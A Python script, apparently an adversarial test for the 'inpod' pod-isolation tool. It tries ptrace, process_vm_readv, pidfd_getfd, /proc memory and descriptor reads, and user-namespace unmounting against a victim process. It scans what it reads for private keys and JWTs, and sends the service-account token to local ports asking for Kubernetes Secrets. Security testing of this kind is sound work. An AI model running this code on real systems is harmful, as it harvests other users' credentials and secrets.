"""A program in a Pod that knows inpod, and looks for what it was not given.

It tells what it tried on whom and what came of it, one line each: WHO ATTEMPT RESULT. What it gets hold of it searches for keys and
tokens, and prints them. A process of its own is the control: there every attempt must come through, or nothing is shown by the others.
"""

import concurrent.futures
import ctypes
import errno
import http.client
import os
import re
import socket
import ssl
import stat
import sys
import time

# A run of the same user, where it is in sight.
VICTIM = int(sys.argv[1])
# What is older than this is nobody's secret of today.
START = time.time() - 60

SECRET = re.compile(
    rb"-----BEGIN [A-Z ]*PRIVATE KEY-----\s[A-Za-z0-9+/=\s]{40}"  # a key as PEM,
    rb"|LS0tLS1CRUdJTiB(?:FQyB)?QUklWQVRF[A-Za-z0-9+/]{40}"  # in a kubeconfig,
    rb"|\x02\x01\x00\x30\x13\x06\x07\x2a\x86\x48\xce\x3d\x02\x01.{10}\x04.\x30.\x02\x01\x01\x04\x20.{32}"  # as PKCS#8,
    rb"|eyJ[\w-]{20,}\.eyJ[\w-]{20,}\.[\w-]{40,}",  # and a token
    re.DOTALL,
)
PAGE = 4096
PTRACE_SEIZE, PTRACE_INTERRUPT, PTRACE_DETACH = 0x4206, 0x4207, 17
CLONE_NEWUSER, CLONE_NEWNS, MNT_DETACH = 0x10000000, 0x20000, 2
SYS_PIDFD_OPEN, SYS_PIDFD_GETFD = 434, 438

libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long] * 2 + [ctypes.c_void_p] * 2
ours = ctypes.create_string_buffer(b"of the control", 64)


def say(who, attempt, result):
    print(who, attempt, result, flush=True)


def search(who, where, data):
    for found in SECRET.findall(data):
        say(who, where, "found:" + found.hex())


class Iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


def checked(result):
    if result < 0:
        raise OSError(ctypes.get_errno(), "")
    return result


def ptrace(pid):
    checked(libc.ptrace(PTRACE_SEIZE, pid, None, None))
    libc.ptrace(PTRACE_INTERRUPT, pid, None, None)
    os.waitpid(pid, 0x40000000)  # __WALL
    libc.ptrace(PTRACE_DETACH, pid, None, None)


def process_vm_readv(pid):
    into = ctypes.create_string_buffer(64)
    local = Iovec(ctypes.addressof(into), 64)
    remote = Iovec(ctypes.addressof(ours), 64)
    result = libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
    # A process that may be read has something else there, or nothing.
    if result < 0 and ctypes.get_errno() != errno.EFAULT:
        checked(result)


def process_vm_writev(pid):
    # No byte of it is written: nothing is at that address. Whether it may be written is asked first.
    local, remote = Iovec(ctypes.addressof(ours), 1), Iovec(8, 1)
    result = libc.process_vm_writev(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
    if result < 0 and ctypes.get_errno() != errno.EFAULT:
        checked(result)


def pidfd_getfd(pid):
    pidfd = checked(libc.syscall(SYS_PIDFD_OPEN, pid, 0))
    refused = None
    for number in range(64):
        fd = libc.syscall(SYS_PIDFD_GETFD, pidfd, number, 0)
        if fd >= 0:
            os.close(fd)
            return
        if ctypes.get_errno() != errno.EBADF:
            refused = OSError(ctypes.get_errno(), "")
    if refused:
        raise refused


def memory(pid, who, task=""):
    with open(f"/proc/{pid}/{task}mem", "rb", buffering=0) as mem:
        # All that follows is only to show what was lost.
        for line in open(f"/proc/{pid}/maps"):
            begin, end = (int(number, 16) for number in line.split()[0].split("-"))
            if line.split()[1][0] != "r" or end > 1 << 63 or end - begin > 64 << 20:
                continue
            try:
                mem.seek(begin)
                search(who, "memory", mem.read(end - begin))
            except OSError:
                pass


def descriptors(pid, who):
    for number in os.listdir(f"/proc/{pid}/fd"):
        path = f"/proc/{pid}/fd/{number}"
        if stat.S_ISREG(os.stat(path).st_mode):
            search(who, "descriptor", open(path, "rb").read())


def read(path, who):
    with open(path, "rb") as file:
        search(who, os.path.basename(path), file.read(1 << 20))


def attempts(pid, who):
    yield "ptrace", lambda: ptrace(pid)
    yield "process_vm_readv", lambda: process_vm_readv(pid)
    yield "process_vm_writev", lambda: process_vm_writev(pid)
    yield "pidfd_getfd", lambda: pidfd_getfd(pid)
    yield "mem", lambda: memory(pid, who)
    yield "task/mem", lambda: memory(pid, who, f"task/{pid}/")
    yield "fd", lambda: descriptors(pid, who)
    for name in ["environ", "maps", "smaps", "pagemap", "auxv", "syscall", "io"]:
        yield name, lambda name=name: read(f"/proc/{pid}/{name}", who)
    for name in ["exe", "cwd", "root"]:
        yield name, lambda name=name: os.readlink(f"/proc/{pid}/{name}")
    yield "through_root", lambda: os.stat(f"/proc/{pid}/root/etc")
    # Of which one makes a core dump. Its own helper may be sent one.
    if not who.startswith("pod-"):
        yield "signal", lambda: os.kill(pid, 0)
    yield "map_files", lambda: os.listdir(f"/proc/{pid}/map_files")


def attack(pid, who):
    # For everybody to read, so that nothing may stand there.
    read(f"/proc/{pid}/cmdline", who)
    for attempt, how in attempts(pid, who):
        try:
            how()
            say(who, attempt, "open")
        except OSError as error:
            say(who, attempt, errno.errorcode.get(error.errno, str(error)))


def processes():
    """Name and parent of everybody in sight, by number."""
    all = {}
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            text = open(f"/proc/{pid}/stat").read()
        except OSError:
            continue
        name, rest = text[text.index("(") + 1 : text.rindex(")")], text[text.rindex(")") + 2 :]
        all[int(pid)] = name, int(rest.split()[1])
    return all


def targets():
    """All processes of the victim's run, and inpod's around this one."""
    all = processes()

    def line(pid):
        while pid in all:
            yield pid
            pid = all[pid][1]

    around = set(line(os.getpid()))
    for pid, (name, _) in sorted(all.items()):
        is_ours = name.startswith(("inpod", "pod-"))
        if VICTIM in line(pid):
            yield pid, "victim's_" + (name if is_ours else "command")
        elif is_ours and pid in around:
            yield pid, name


def control():
    pid = os.fork()
    if pid == 0:
        while True:
            time.sleep(1000)
    attack(pid, "control")
    os.kill(pid, 9)
    os.waitpid(pid, 0)


def uncover():
    """Takes away what is mounted over the machine's files, as root of a user namespace of its own."""
    os.mkdir("under")
    places = [line.split()[4] for line in open("/proc/self/mountinfo") if " - tmpfs inpod " in line]
    pid = os.fork()
    if pid:
        os.waitpid(pid, 0)
        os.rmdir("under")
        return
    user, group = os.getuid(), os.getgid()
    if libc.unshare(CLONE_NEWUSER | CLONE_NEWNS) < 0:
        os._exit(0)
    for name, text in [("setgroups", "deny"), ("uid_map", f"0 {user} 1"), ("gid_map", f"0 {group} 1")]:
        open(f"/proc/self/{name}", "w").write(text)
    checked(libc.mount(b"own", b"under", b"tmpfs", 0, None))
    for who, place in [("control", "under")] + [("mounts", place) for place in reversed(places)]:
        done = libc.umount2(place.encode(), MNT_DETACH) == 0
        say(who, place, "open" if done else errno.errorcode[ctypes.get_errno()])
    os._exit(0)


def inherited():
    """What it was started with, and its own memory."""
    for number in os.listdir("/proc/self/fd"):
        # Not the one by which the folder was read.
        if os.path.lexists(f"/proc/self/fd/{number}"):
            say("self", "descriptor", number)
    memory(os.getpid(), "self")
    read("/proc/self/environ", "self")


def folders():
    """Files of this user that were written meanwhile."""
    for top in ["/tmp", "/var/tmp", "/dev/shm", "/run", os.getcwd()]:
        for folder, below, files in os.walk(top):
            if folder.count("/") > 4:
                below.clear()
            # Its own account.
            below[:] = [name for name in below if name != "serviceaccount"]
            for name in files:
                path = os.path.join(folder, name)
                try:
                    about = os.lstat(path)
                    if stat.S_ISREG(about.st_mode) and about.st_uid == os.getuid() and about.st_mtime > START:
                        search("files", path.replace(" ", "_"), open(path, "rb").read(1 << 24))
                except OSError:
                    pass


def listening():
    found = set()
    for table, family in [("tcp", socket.AF_INET), ("tcp6", socket.AF_INET6)]:
        try:
            lines = open(f"/proc/net/{table}").read().splitlines()[1:]
        except OSError:
            continue
        for line in lines:
            local, state = line.split()[1], line.split()[3]
            if state == "0A":
                address, port = local.split(":")
                words = [bytes.fromhex(address[i : i + 8])[::-1] for i in range(0, len(address), 8)]
                address = socket.inet_ntop(family, b"".join(words))
                found.add(({"0.0.0.0": "127.0.0.1", "::": "::1"}.get(address, address), int(port, 16)))
    return sorted(found)


def ask(host, port, tls, headers):
    trusting = ssl.create_default_context()
    trusting.check_hostname, trusting.verify_mode = False, ssl.CERT_NONE
    if tls:
        connection = http.client.HTTPSConnection(host, port, timeout=3, context=trusting)
    else:
        connection = http.client.HTTPConnection(host, port, timeout=3)
    try:
        connection.request("GET", "/api/v1/secrets", headers=headers)
        answer = connection.getresponse()
        return tls, answer.status, answer.read()
    except (OSError, http.client.HTTPException):
        return tls, None, b""
    finally:
        connection.close()


def ports():
    """Whoever listens is asked for Secrets, with no credentials and with this account's."""
    token = open("/var/run/secrets/kubernetes.io/serviceaccount/token").read()
    accounts = [{}, {"Authorization": "Bearer " + token}]
    questions = [(*at, tls, headers) for at in listening() for tls in [True, False] for headers in accounts]
    # All at once: some listen and never answer.
    with concurrent.futures.ThreadPoolExecutor(64) as threads:
        answers = list(threads.map(lambda question: ask(*question), questions))
    for tls, status, body in answers:
        who = "anonymous" if b"system:anonymous" in body else "account" if b"system:serviceaccount:" in body else "other"
        if status:
            say("port", f"{'https' if tls else 'http'}_{who}", status)
        for mark in re.findall(rb"inpod-hostile-mark-\w+|aW5wb2QtaG9zdGlsZS1tYXJr\w*", body):
            say("port", "secret", "found:" + mark.hex())


def sockets():
    for line in open("/proc/net/unix").read().splitlines()[1:]:
        name = line.split()[7:]
        if name and "inpod" in name[0]:
            say("sockets", "name", name[0])


inherited()
control()
uncover()
for pid, who in targets():
    attack(pid, who)
folders()
ports()
sockets()
say("end", "of", "attack")
